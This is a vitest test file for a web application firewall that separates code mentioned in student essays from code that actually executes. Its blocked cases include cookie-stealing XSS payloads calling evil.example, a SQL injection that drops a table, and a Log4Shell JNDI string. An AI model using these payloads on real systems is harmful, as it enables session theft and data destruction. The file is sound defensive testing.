import { describe, expect, it } from 'vitest';
import { compileWaf } from '../config/waf.ts';
import { inspect } from './engine.ts';
import { htmlExecutes, proseShaped } from './prose.ts';
import { req, rulesWith, shippedRules } from '../../../test/support/gateway/waf.ts';

/** The shipped rules with every detector: prose fields are declared in gateway/rules/waf.yaml. */
const waf = compileWaf(shippedRules());
const essay = (text: string) => req('PUT', '/api/me/profile', { json: { state: 'NY', essay: text } });
const rulesOf = (v: { matches: { ruleId: string }[] }) => [...new Set(v.matches.map((m) => m.ruleId))];

/** Tests as data: essay text → blocked (executes / breaks out) or saved with a moderation notice. */
const CASES: Array<{ text: string; blocks: boolean; why: string }> = [
  {
    text: "In my first database class I wrote SELECT name FROM students WHERE major = 'Math' AND gpa > 3; it felt like magic.",
    blocks: false,
    why: 'a complete query quoted in prose',
  },
  {
    text: 'Our club learned GROUP BY major HAVING COUNT(*) > 1 to find duplicates in the sign-up sheet last year.',
    blocks: false,
    why: 'SQL clauses mentioned',
  },
  {
    text: 'When I was ten I typed <script> into the comment box of my school website and nothing happened at all.',
    blocks: false,
    why: 'a story about a script tag',
  },
  {
    text: 'My hackathon page had a <div id="map"></div> and <script src="https://unpkg.com/leaflet"></script> for the map view.',
    blocks: false,
    why: 'a code sample loading a public CDN library',
  },
  {
    text: 'My first one-liner was `grep -c error server.log | sort` and it counted crashes on our robotics server nicely.',
    blocks: false,
    why: 'a shell one-liner in a code span',
  },
  {
    text: 'In class we learned why servers must block 169.254.169.254 since an image proxy once leaked keys that way.',
    blocks: false,
    why: 'the metadata address mentioned',
  },
  {
    text: 'I love my school so much and want to study art here <img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
    blocks: true,
    why: 'an event handler reaching a JS sink',
  },
  {
    text: 'Thanks for reading my essay about growing up in Ohio. <script src="//evil.example/hook.js"></script> See you soon!',
    blocks: true,
    why: 'a script from another site',
  },
  {
    text: 'This is my essay about my community service and my goals in college; <script>new Image().src="//x.example/?"+document.cookie</script>',
    blocks: true,
    why: 'a script touching cookies',
  },
  {
    text: "My favourite subject is chemistry and I want to study it at a good school'; DROP TABLE users; --",
    blocks: true,
    why: 'a statement terminated and followed by another',
  },
  {
    text: '${jndi:ldap://evil.example/a} is what I typed in the essay field, pretending to be a curious student writer.',
    blocks: true,
    why: 'families not judged in prose count as they are (Log4Shell)',
  },
];

describe('prose fields: execution, not mention', () => {
  for (const c of CASES) {
    it(`${c.blocks ? 'blocks' : 'saves (moderation notice)'}: ${c.why}`, () => {
      const { verdict } = inspect(essay(c.text), waf);
      expect(verdict.wouldBlock, rulesOf(verdict).join(',')).toBe(c.blocks);
      // Saved text carries at most the moderation notice (nothing at all when no detector fired).
      if (!c.blocks) expect(rulesOf(verdict).filter((r) => r !== 'WAF_PROSE_001')).toEqual([]);
    });
  }

  it('judges a short value in a prose field like any other field', () => {
    expect(inspect(essay('<img src=x onerror=alert(1)>'), waf).verdict.wouldBlock).toBe(true);
    expect(proseShaped("' OR 1=1 --")).toBe(false);
  });

  it('only on the declared route and field', () => {
    const text =
      'When I was ten I typed <script> into the comment box of my school website and nothing happened at all.';
    expect(inspect(req('PUT', '/api/me/profile', { json: { notes: text } }), waf).verdict.wouldBlock).toBe(true);
    expect(inspect(req('POST', '/api/other', { json: { essay: text } }), waf).verdict.wouldBlock).toBe(true);
  });

  it('keeps the held matches for explain as prose exclusions, with one notice', () => {
    const x = inspect(essay(CASES[2].text), waf);
    expect(rulesOf(x.verdict)).toEqual(['WAF_PROSE_001']);
    expect(x.excluded.map((e) => e.exclusion)).toContain('prose:student-writing');
  });

  it('rejects an invalid JSON path at load', () => {
    expect(() =>
      compileWaf(rulesWith({ prose: [{ id: 'x', reason: 'r', routes: ['/a'], fields: [{ json: '$.[' }] }] })),
    ).toThrow();
  });

  it('htmlExecutes: javascript: links and srcdoc run, plain markup does not', () => {
    expect(htmlExecutes('<a href=" javascript:alert(1)">x</a>')).toBe(true);
    expect(htmlExecutes('<iframe srcdoc="<b>x</b>">')).toBe(true);
    expect(htmlExecutes('<iframe src="https://evil.example/x"></iframe>')).toBe(true);
    expect(htmlExecutes('<base href="//evil.example/">')).toBe(true);
    expect(htmlExecutes('<p><b>Bold</b> and <a href="https://example.org">a link</a></p>')).toBe(false);
  });
});
